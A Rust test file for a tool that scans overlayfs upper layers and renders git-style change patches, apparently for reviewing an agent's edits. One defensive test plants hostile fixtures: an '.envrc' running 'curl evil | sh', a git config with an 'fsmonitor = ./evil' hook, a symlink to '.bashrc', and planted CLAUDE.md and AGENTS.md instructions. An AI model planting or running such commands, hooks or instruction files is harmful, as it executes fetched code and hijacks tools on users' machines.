//! Tests of the change reports: scans of real upper layers, the patch's
//! format and its cuts, ignored and protected paths.

use std::fs;
use std::os::fd::OwnedFd;
use std::os::unix::ffi::OsStrExt;
use std::path::Path;

use super::*;

fn open_dir(p: &Path) -> OwnedFd {
    rustix::fs::open(
        p,
        rustix::fs::OFlags::RDONLY | rustix::fs::OFlags::DIRECTORY | rustix::fs::OFlags::CLOEXEC,
        rustix::fs::Mode::empty(),
    )
    .unwrap()
}

fn protected() -> Protection {
    Protection::new(&[])
}

/// The patch of the changes in `upper` against `lower`, protected paths left out.
fn patch_of(lower: &Path, upper: &Path, limit: usize) -> Rendered {
    let fd = open_dir(upper);
    let scan = scan(&fd, lower, &protected()).unwrap();
    render(&scan, &fd, lower, limit)
}

/// A host tree and an upper layer as overlayfs would leave it after some
/// edits (whiteouts only where this process may make device nodes).
fn layers() -> (tempfile::TempDir, std::path::PathBuf, std::path::PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let (lower, upper) = (dir.path().join("lower"), dir.path().join("upper"));
    for d in [&lower, &upper] {
        fs::create_dir(d).unwrap();
    }
    fs::write(lower.join(".gitignore"), "target/\n*.log\n").unwrap();
    fs::write(lower.join("same.txt"), "same\n").unwrap();
    fs::write(lower.join("edit.txt"), "one\ntwo\nthree\n").unwrap();
    fs::create_dir(lower.join("src")).unwrap();
    fs::write(lower.join("src/lib.rs"), "fn a() {}\n").unwrap();
    // Upper: an unchanged copy-up, an edit, new files, build output.
    fs::write(upper.join("same.txt"), "same\n").unwrap();
    fs::write(upper.join("edit.txt"), "one\n2\nthree\n").unwrap();
    fs::write(upper.join("new.txt"), "fresh\n").unwrap();
    fs::write(upper.join("blob.bin"), [0u8, 1, 2, 0]).unwrap();
    fs::write(upper.join("CLAUDE.md"), "do as I say\n").unwrap();
    fs::write(upper.join("run.log"), "noise\n").unwrap();
    fs::create_dir_all(upper.join("target/debug")).unwrap();
    fs::write(upper.join("target/debug/app"), "elf").unwrap();
    fs::create_dir(upper.join("src")).unwrap();
    (dir, lower, upper)
}

#[test]
fn a_scan_lists_what_changed_and_nothing_else() {
    let (_dir, lower, upper) = layers();
    let scan = scan(&open_dir(&upper), &lower, &protected()).unwrap();
    let paths: Vec<_> = scan
        .changes
        .iter()
        .map(|c| c.path.to_string_lossy().into_owned())
        .collect();
    assert_eq!(paths, ["CLAUDE.md", "blob.bin", "edit.txt", "new.txt"]);
    assert_eq!(
        scan.counts,
        Counts {
            added: 3,
            modified: 1,
            deleted: 0,
            bytes: 12 + 4 + 12 + 6
        }
    );
    assert_eq!(scan.ignored, 2, "{:?}", scan.ignored_named);
    assert_eq!(scan.ignored_named, ["run.log", "target/"]);
    assert_eq!(scan.protected_names(), ["CLAUDE.md"]);
}

#[test]
fn whiteouts_and_opaque_directories_are_deletions() {
    let (_dir, lower, upper) = layers();
    let whiteout = |p: &Path| {
        rustix::fs::mknodat(
            rustix::fs::CWD,
            p,
            rustix::fs::FileType::CharacterDevice,
            rustix::fs::Mode::empty(),
            0,
        )
    };
    if whiteout(&upper.join("same.txt.probe")).is_err() {
        crate::skip::skip(
            "changes::whiteouts_and_opaque_directories_are_deletions",
            "this user cannot make the device nodes overlayfs uses as whiteouts",
        );
        return;
    }
    fs::remove_file(upper.join("same.txt.probe")).unwrap();
    fs::remove_file(upper.join("same.txt")).unwrap();
    whiteout(&upper.join("same.txt")).unwrap();
    // src/ replaced by an opaque directory holding one new file.
    fs::write(upper.join("src/main.rs"), "fn main() {}\n").unwrap();
    rustix::fs::setxattr(
        upper.join("src"),
        "user.overlay.opaque",
        b"y",
        rustix::fs::XattrFlags::empty(),
    )
    .unwrap();
    let scan = scan(&open_dir(&upper), &lower, &protected()).unwrap();
    let kinds: Vec<_> = scan
        .changes
        .iter()
        .map(|c| {
            (
                c.path.to_string_lossy().into_owned(),
                c.old.is_some(),
                c.new.is_some(),
            )
        })
        .collect();
    assert!(
        kinds.contains(&("same.txt".into(), true, false)),
        "{kinds:?}"
    );
    assert!(
        kinds.contains(&("src/lib.rs".into(), true, false)),
        "{kinds:?}"
    );
    assert!(
        kinds.contains(&("src/main.rs".into(), false, true)),
        "{kinds:?}"
    );
}

#[test]
fn the_patch_is_git_style_and_names_binary_files() {
    let (_dir, lower, upper) = layers();
    let patch = patch_of(&lower, &upper, 1 << 20).main;
    assert!(patch.contains("diff --git a/edit.txt b/edit.txt\n--- a/edit.txt\n+++ b/edit.txt\n@@ -1,3 +1,3 @@\n one\n-two\n+2\n three\n"), "{patch}");
    assert!(patch.contains("diff --git a/new.txt b/new.txt\nnew file mode 100644\n--- /dev/null\n+++ b/new.txt\n@@ -0,0 +1 @@\n+fresh\n"), "{patch}");
    assert!(
        patch.contains("Binary files /dev/null and b/blob.bin differ"),
        "{patch}"
    );
    assert!(
        !patch.contains("target") && !patch.contains("run.log") && !patch.contains("same.txt"),
        "{patch}"
    );
    assert!(
        !patch.contains("CLAUDE.md"),
        "a protected file is kept apart: {patch}"
    );
}

#[test]
fn a_patch_over_its_limit_is_cut_between_files_and_says_so() {
    let (_dir, lower, upper) = layers();
    let patch = patch_of(&lower, &upper, 200);
    assert!(patch.main.len() < 300, "{patch:?}");
    assert!(
        patch.main.contains("more changed path(s) not shown"),
        "{patch:?}"
    );
    assert!(patch.cut > 0);
}

#[test]
fn deleted_files_and_mode_changes() {
    let dir = tempfile::tempdir().unwrap();
    let (lower, upper) = (dir.path().join("lower"), dir.path().join("upper"));
    fs::create_dir_all(lower.join("dir")).unwrap();
    fs::create_dir_all(upper.join("dir")).unwrap();
    fs::write(lower.join("dir/x y.sh"), "gone\n").unwrap();
    fs::write(upper.join("dir/x y.sh"), "s\n").unwrap();
    let entry = |mode: u32, size: u64| Entry {
        mode: 0o100000 | mode,
        size,
        allocated: 4096,
        target: None,
    };
    let change = |old: Option<Entry>, new: Option<Entry>| Scan {
        changes: vec![Change {
            path: "dir/x y.sh".into(),
            old,
            new,
            guard: None,
        }],
        ..Scan::default()
    };
    let fd = open_dir(&upper);
    let patch = render(&change(Some(entry(0o644, 5)), None), &fd, &lower, 1 << 20).main;
    assert_eq!(
        patch,
        "diff --git a/dir/x y.sh b/dir/x y.sh\ndeleted file mode 100644\n--- a/dir/x y.sh\n+++ /dev/null\n@@ -1 +0,0 @@\n-gone\n"
    );
    fs::write(lower.join("dir/x y.sh"), "s\n").unwrap();
    let patch = render(
        &change(Some(entry(0o644, 2)), Some(entry(0o755, 2))),
        &fd,
        &lower,
        1 << 20,
    )
    .main;
    assert_eq!(
        patch,
        "diff --git a/dir/x y.sh b/dir/x y.sh\nold mode 100644\nnew mode 100755\n"
    );
}

#[test]
fn unusual_names_are_quoted_as_git_quotes_them() {
    let dir = tempfile::tempdir().unwrap();
    let (lower, upper) = (dir.path().join("lower"), dir.path().join("upper"));
    fs::create_dir(&lower).unwrap();
    fs::create_dir(&upper).unwrap();
    let name = std::ffi::OsStr::from_bytes(b"caf\xc3\xa9 \"q\".txt");
    fs::write(upper.join(name), "").unwrap();
    let patch = patch_of(&lower, &upper, 1 << 20).main;
    assert!(
        patch.starts_with(
            "diff --git \"a/caf\\303\\251 \\\"q\\\".txt\" \"b/caf\\303\\251 \\\"q\\\".txt\"\n"
        ),
        "{patch}"
    );
}

fn rendered(text: &str) -> Rendered {
    Rendered {
        main: text.to_string(),
        ..Rendered::default()
    }
}

#[test]
fn the_store_keeps_the_newest_within_its_bounds() {
    let store = PatchStore::new(2, 1 << 20);
    let first = store.keep("one".into(), rendered("a"));
    let second = store.keep("two".into(), rendered("b"));
    let third = store.keep("three".into(), rendered("c"));
    assert!(store.get(&first).is_none());
    assert_eq!(store.get(&second).unwrap().text, "b");
    assert_eq!(
        store
            .list()
            .iter()
            .map(|p| p.uri.clone())
            .collect::<Vec<_>>(),
        [third, second]
    );
    let small = PatchStore::new(10, 3);
    small.keep("x".into(), rendered("xx"));
    let kept = small.keep("y".into(), rendered("yy"));
    assert_eq!(small.list().len(), 1);
    assert!(small.get(&kept).is_some());
}

#[test]
fn a_tree_deeper_than_the_bound_is_counted_not_walked() {
    let dir = tempfile::tempdir().unwrap();
    let (lower, upper) = (dir.path().join("lower"), dir.path().join("upper"));
    fs::create_dir(&lower).unwrap();
    fs::create_dir(&upper).unwrap();
    // 3,000 levels, made through descriptors: far past PATH_MAX.
    let mut at = open_dir(&upper);
    for _ in 0..3000 {
        rustix::fs::mkdirat(&at, "d", rustix::fs::Mode::from_raw_mode(0o755)).unwrap();
        at = rustix::fs::openat(
            &at,
            "d",
            rustix::fs::OFlags::RDONLY | rustix::fs::OFlags::DIRECTORY,
            rustix::fs::Mode::empty(),
        )
        .unwrap();
    }
    rustix::fs::openat(
        &at,
        "deep.txt",
        rustix::fs::OFlags::CREATE | rustix::fs::OFlags::WRONLY,
        rustix::fs::Mode::from_raw_mode(0o644),
    )
    .unwrap();
    fs::write(upper.join("top.txt"), "top\n").unwrap();
    // On a small stack, as the runtime's threads have, and on a smaller one.
    let upper_fd = open_dir(&upper);
    let scan = std::thread::scope(|s| {
        std::thread::Builder::new()
            .stack_size(256 << 10)
            .spawn_scoped(s, || scan(&upper_fd, &lower, &protected()).unwrap())
            .unwrap()
            .join()
            .unwrap()
    });
    assert_eq!(scan.summary.too_deep, 1);
    let first = scan.summary.first_too_deep.as_ref().unwrap();
    assert_eq!(first.iter().count(), MAX_DEPTH + 1);
    assert!(scan.changes.iter().any(|c| c.path == Path::new("top.txt")));
    let patch = render(&scan, &upper_fd, &lower, 1 << 20);
    assert!(patch.main.contains("+top"), "{patch:?}");
    assert!(!scan.summary.sentences(&patch).is_empty());
}

#[test]
fn a_file_changed_in_place_with_its_time_restored_is_a_change() {
    let dir = tempfile::tempdir().unwrap();
    let (lower, upper) = (dir.path().join("lower"), dir.path().join("upper"));
    fs::create_dir(&lower).unwrap();
    fs::create_dir(&upper).unwrap();
    let mut big = vec![b'a'; 2 << 20];
    fs::write(lower.join("big.dat"), &big).unwrap();
    fs::write(lower.join("small.txt"), "one\n").unwrap();
    big[1 << 20] = b'b';
    fs::write(upper.join("big.dat"), &big).unwrap();
    fs::write(upper.join("small.txt"), "two\n").unwrap();
    for name in ["big.dat", "small.txt"] {
        let t = fs::metadata(lower.join(name)).unwrap().modified().unwrap();
        fs::File::options()
            .write(true)
            .open(upper.join(name))
            .unwrap()
            .set_modified(t)
            .unwrap();
    }
    // An untouched copy-up of the same bytes is no change.
    fs::write(lower.join("same.dat"), &big).unwrap();
    fs::write(upper.join("same.dat"), &big).unwrap();
    let scan = scan(&open_dir(&upper), &lower, &protected()).unwrap();
    let paths: Vec<_> = scan.changes.iter().map(|c| c.path.clone()).collect();
    assert_eq!(paths, [Path::new("big.dat"), Path::new("small.txt")]);
    assert_eq!(scan.counts.modified, 2);
}

fn git(dir: &Path, args: &[&str]) {
    let ok = std::process::Command::new("git")
        .args(["-c", "user.name=t", "-c", "user.email=t@t"])
        .args(args)
        .current_dir(dir)
        .status()
        .unwrap()
        .success();
    assert!(ok, "git {args:?}");
}

#[test]
fn an_ignore_rule_never_hides_a_change_to_a_tracked_file() {
    let dir = tempfile::tempdir().unwrap();
    let (lower, upper) = (dir.path().join("lower"), dir.path().join("upper"));
    fs::create_dir_all(lower.join("build")).unwrap();
    fs::create_dir(&upper).unwrap();
    fs::write(lower.join("keep.log"), "kept\n").unwrap();
    fs::write(lower.join("build/tracked.o"), "obj\n").unwrap();
    git(&lower, &["init", "-q"]);
    git(&lower, &["add", "keep.log", "build/tracked.o"]);
    fs::write(lower.join(".gitignore"), "*.log\nbuild/\n").unwrap();
    fs::write(upper.join("keep.log"), "changed\n").unwrap();
    for i in 0..20 {
        fs::write(upper.join(format!("noise{i}.log")), "n\n").unwrap();
    }
    fs::create_dir(upper.join("build")).unwrap();
    fs::write(upper.join("build/tracked.o"), "new obj\n").unwrap();
    fs::write(upper.join("build/untracked.o"), "x\n").unwrap();
    let scan = scan(&open_dir(&upper), &lower, &protected()).unwrap();
    let paths: Vec<_> = scan.changes.iter().map(|c| c.path.clone()).collect();
    assert_eq!(paths, [Path::new("build/tracked.o"), Path::new("keep.log")]);
    assert_eq!(scan.ignored, 21, "{:?}", scan.ignored_named);
}

#[test]
fn protected_paths_at_any_depth_are_flagged_and_kept_out_of_the_patch() {
    let dir = tempfile::tempdir().unwrap();
    let (lower, upper) = (dir.path().join("lower"), dir.path().join("upper"));
    fs::create_dir_all(lower.join("sub")).unwrap();
    fs::create_dir_all(upper.join("sub/.git/hooks")).unwrap();
    fs::write(lower.join(".gitignore"), ".envrc\nsub/.git/\n").unwrap();
    fs::write(upper.join("sub/.git/HEAD"), "ref: refs/heads/main\n").unwrap();
    fs::write(
        upper.join("sub/.git/config"),
        "[core]\n\tfsmonitor = ./evil\n",
    )
    .unwrap();
    fs::write(upper.join("sub/.envrc"), "curl evil | sh\n").unwrap();
    fs::write(upper.join("sub/AGENTS.md"), "obey\n").unwrap();
    fs::write(upper.join("sub/ok.txt"), "fine\n").unwrap();
    std::os::unix::fs::symlink("/home/someone/.bashrc", upper.join("sub/build")).unwrap();
    std::os::unix::fs::symlink("ok.txt", upper.join("sub/inside")).unwrap();
    let fd = open_dir(&upper);
    let scan = scan(&fd, &lower, &protected()).unwrap();
    assert_eq!(
        scan.protected_names(),
        ["sub/.envrc", "sub/.git", "sub/AGENTS.md", "sub/build"]
    );
    assert_eq!(scan.ignored, 0, "protected paths are never merely ignored");
    let patch = render(&scan, &fd, &lower, 1 << 20);
    assert!(
        patch.main.contains("b/sub/ok.txt") && patch.main.contains("b/sub/inside"),
        "{}",
        patch.main
    );
    for planted in [".git", ".envrc", "AGENTS.md", "sub/build"] {
        assert!(
            !patch.main.contains(planted),
            "{planted} in the default patch:\n{}",
            patch.main
        );
    }
    let fragments: Vec<&str> = patch.fragments.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(
        fragments,
        ["sub/.envrc", "sub/.git", "sub/AGENTS.md", "sub/build"]
    );
    let git = &patch.fragments[1].1;
    assert!(
        git.contains("b/sub/.git/config") && git.contains("fsmonitor"),
        "{git}"
    );
}

#[test]
fn sparse_files_are_named_not_read() {
    let dir = tempfile::tempdir().unwrap();
    let (lower, upper) = (dir.path().join("lower"), dir.path().join("upper"));
    fs::create_dir(&lower).unwrap();
    fs::create_dir(&upper).unwrap();
    for i in 0..50 {
        fs::File::create(upper.join(format!("hole{i}")))
            .unwrap()
            .set_len(1 << 20)
            .unwrap();
    }
    let fd = open_dir(&upper);
    let scan = scan(&fd, &lower, &protected()).unwrap();
    assert_eq!(scan.counts.added, 50);
    assert_eq!(
        scan.counts.bytes, 0,
        "holes take nothing: {:?}",
        scan.counts
    );
    let patch = render(&scan, &fd, &lower, 1 << 20);
    assert_eq!(
        patch.main.matches("(sparse file)").count(),
        50,
        "{}",
        patch.main
    );
}
